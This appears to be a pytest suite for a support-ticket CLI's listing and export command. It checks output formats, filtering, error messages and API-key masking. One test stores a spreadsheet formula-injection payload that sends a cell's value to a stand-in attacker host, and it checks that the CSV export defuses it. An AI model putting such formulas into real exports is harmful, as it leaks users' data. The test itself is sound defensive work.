"""``supportbot tickets``: table, JSON and CSV; state filter; clear errors; never a key."""

from __future__ import annotations

import csv
import io
import json
import random
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from supportbot.cli import cli
from supportbot.store import migrate
from supportbot.store import tickets as ticket_store
from supportbot.store.db import Store
from tests.keygen import make_key

NOW = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)


@pytest.fixture
def database(tmp_path: Path) -> tuple[str, str]:
    """A database with two open tickets and one closed; one error text holds a key (as old data might)."""
    url = f"sqlite:///{tmp_path}/tickets.db"
    secret = make_key("openai", random.Random(5))
    store = Store(url)
    migrate.upgrade(store)
    with store.session() as session:
        for number, (model, error) in enumerate(
            [("gpt-4o-mini", f"Error code: 401 - bad key {secret}"), ("deepseek-chat", "无效的令牌"), ("o1", None)]
        ):
            ticket, _ = ticket_store.create(
                session,
                ticket_store.NewTicket(
                    occurred_at=NOW,
                    model=model,
                    status=401,
                    error_text=error,
                    masked_key_id="sk-…x9Qa",
                    submission_key=f"view:{number}",
                    source="command",
                    filed_by="U0AGENT01",
                ),
                now=NOW,
            )
        ticket_store.close(session, ticket.id or 0, by="U0AGENT01", reason="fixed", now=NOW)
    store.close()
    return url, secret


def run(url: str, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, ["tickets", *args], env={"DATABASE_URL": url})
    return result.exit_code, result.stdout, result.stderr


def test_table_of_open_tickets(database: tuple[str, str]) -> None:
    url, secret = database
    code, out, _ = run(url)
    assert code == 0
    lines = out.splitlines()
    assert lines[0].split()[:3] == ["ID", "STATE", "FILED"]
    assert "gpt-4o-mini" in out and "deepseek-chat" in out and " o1 " not in out
    assert lines[-1] == "2 open tickets"
    assert secret not in out and "…" + secret[-4:] in out, "the key is shown masked"


def test_json_export_of_everything(database: tuple[str, str]) -> None:
    url, secret = database
    code, out, _ = run(url, "--state", "all", "--format", "json")
    assert code == 0
    records = json.loads(out)
    assert [record["model"] for record in records] == ["o1", "deepseek-chat", "gpt-4o-mini"]
    closed = records[0]
    assert (closed["state"], closed["closed_by"], closed["close_reason"]) == ("closed", "U0AGENT01", "fixed")
    assert closed["occurred_at"] == "2026-11-23T09:00:00Z" and closed["status"] == 401
    assert secret not in out and secret[-20:] not in out


def test_csv_export_of_closed_tickets(database: tuple[str, str]) -> None:
    url, _ = database
    code, out, _ = run(url, "--state", "closed", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(row["id"], row["state"], row["model"], row["error_text"]) for row in rows] == [("3", "closed", "o1", "")]


def test_no_tickets(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/empty.db"
    store = Store(url)
    migrate.upgrade(store)
    store.close()
    assert run(url, "--state", "closed") == (0, "No closed tickets.\n", "")
    assert json.loads(run(url, "--format", "json")[1]) == []


def test_clear_errors(tmp_path: Path) -> None:
    code, _, err = run(f"sqlite:///{tmp_path}/missing.db")
    assert code == 2 and "no database at" in err and "DATABASE_URL" in err
    assert not (tmp_path / "missing.db").exists(), "listing never creates a database"
    Store(f"sqlite:///{tmp_path}/old.db").ping()
    code, _, err = run(f"sqlite:///{tmp_path}/old.db")
    assert code == 2 and "supportbot db upgrade" in err
    bad = CliRunner().invoke(cli, ["tickets", "--format", "xml"], env={})
    assert bad.exit_code == 2 and "xml" in bad.stderr


def test_help() -> None:
    result = CliRunner().invoke(cli, ["tickets", "--help"])
    assert result.exit_code == 0
    assert "--state [open|closed|all]" in result.output and "--format [table|json|csv]" in result.output
    assert "no key is ever printed" in " ".join(result.output.split())


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    """Issue 13, finding 10: a customer's error text or a close reason cannot run in a spreadsheet."""
    url = f"sqlite:///{tmp_path}/formula.db"
    store = Store(url)
    migrate.upgrade(store)
    with store.session() as session:
        ticket, _ = ticket_store.create(
            session,
            ticket_store.NewTicket(
                occurred_at=NOW,
                model="gpt-4o",
                status=401,
                error_text='=HYPERLINK("https://evil.example/?x="&A1,"click")',
                masked_key_id=None,
                submission_key="view:formula",
                source="command",
                filed_by="U0AGENT01",
            ),
            now=NOW,
        )
        ticket_store.close(session, ticket.id or 0, by="U0AGENT01", reason="@SUM(1+1)", now=NOW)
    store.close()
    code, out, _ = run(url, "--state", "all", "--format", "csv")
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["error_text"].startswith("'=HYPERLINK(")
    assert row["close_reason"] == "'@SUM(1+1)"
